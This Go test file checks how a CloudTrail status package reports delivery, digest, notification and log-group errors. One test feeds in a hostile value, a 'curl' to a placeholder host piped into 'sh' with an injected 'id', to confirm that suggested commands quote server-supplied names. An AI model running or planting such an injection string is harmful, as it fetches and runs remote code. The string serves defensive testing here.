package trail

import (
	"strings"
	"testing"
	"time"
)

func TestProblems(t *testing.T) {
	on := Status{Trail: Trail{Name: "audit", HomeRegion: home, Bucket: "logs", TopicARN: "topic"}, Logging: true}
	tests := map[string]struct {
		change func(*Status)
		want   []string // part of each problem
	}{
		"none":           {func(*Status) {}, nil},
		"never on":       {func(s *Status) { s.Logging = false }, []string{"never switched on"}},
		"off":            {func(s *Status) { s.Logging, s.Stopped = false, time.Unix(1, 0) }, []string{"switched off"}},
		"denied":         {func(s *Status) { s.DeliveryError = "AccessDenied" }, []string{"policy"}},
		"bucket gone":    {func(s *Status) { s.DeliveryError, s.DigestError = "NoSuchBucket", "NoSuchBucket" }, []string{"gone", "digest files"}},
		"unknown answer": {func(s *Status) { s.DigestError = "Whatever" }, []string{"Error responses"}},
		"notification":   {func(s *Status) { s.NotificationError = "AuthorizationError" }, []string{"topic"}},
		"log group":      {func(s *Status) { s.LogGroupError = "Access denied." }, []string{"role"}},
		"role gone":      {func(s *Status) { s.LogGroupError = "AccessDeniedException" }, []string{"the role is gone, or"}},
		"upstream down": {func(s *Status) {
			s.DeliveryError, s.NotificationError, s.LogGroupError = "UpstreamNotReachable", "UpstreamNotReachable", "UpstreamNotReachable"
		}, []string{"behind the sandbox", "behind the sandbox", "behind the sandbox"}},
		"logs in trouble":   {func(s *Status) { s.LogGroupError = "ServiceUnavailableException" }, []string{"CloudWatch Logs was not able"}},
		"logs fail":         {func(s *Status) { s.LogGroupError = "InternalFailure" }, []string{"wait: CloudTrail tries again"}},
		"topic in trouble":  {func(s *Status) { s.NotificationError = "InternalFailure" }, []string{"SNS was not able"}},
		"bucket in trouble": {func(s *Status) { s.DeliveryError = "InternalError" }, []string{"S3 was not able"}},
		"all": {func(s *Status) {
			s.Logging, s.DeliveryError, s.DigestError, s.NotificationError, s.LogGroupError = false, "AccessDenied", "AccessDenied", "x", "y"
		}, []string{"nothing is recorded", "log files", "digest files", "notifications", "log group"}},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			s := on
			tt.change(&s)
			got := s.Problems()
			if len(got) != len(tt.want) {
				t.Fatalf("got %+v", got)
			}
			for i, p := range got {
				if text := p.What + p.Why + p.Do; !strings.Contains(text, tt.want[i]) {
					t.Errorf("%q is not in %q", tt.want[i], text)
				}
				if p.Do == "" {
					t.Errorf("nothing to do about %q", p.What)
				}
			}
		})
	}
}

// What a server names is one word in the commands that are shown.
func TestProblemsQuoteWhatServersSay(t *testing.T) {
	bad := "x; curl http://203.0.113.1/`id` | sh"
	s := Status{
		Trail:         Trail{Name: bad, HomeRegion: bad, Bucket: bad, TopicARN: bad, LogGroupARN: bad + ":*"},
		DeliveryError: "AccessDenied", DigestError: "NoSuchBucket", NotificationError: "NotFound", LogGroupError: "ResourceNotFound",
	}
	list := s.Problems()
	if len(list) != 5 {
		t.Fatalf("%+v", list)
	}
	for _, p := range list {
		if rest := strings.ReplaceAll(p.Do, "'"+bad+"'", ""); rest == p.Do || strings.ContainsAny(rest, ";|`") {
			t.Errorf("%s: %s", p.What, p.Do)
		}
	}
}
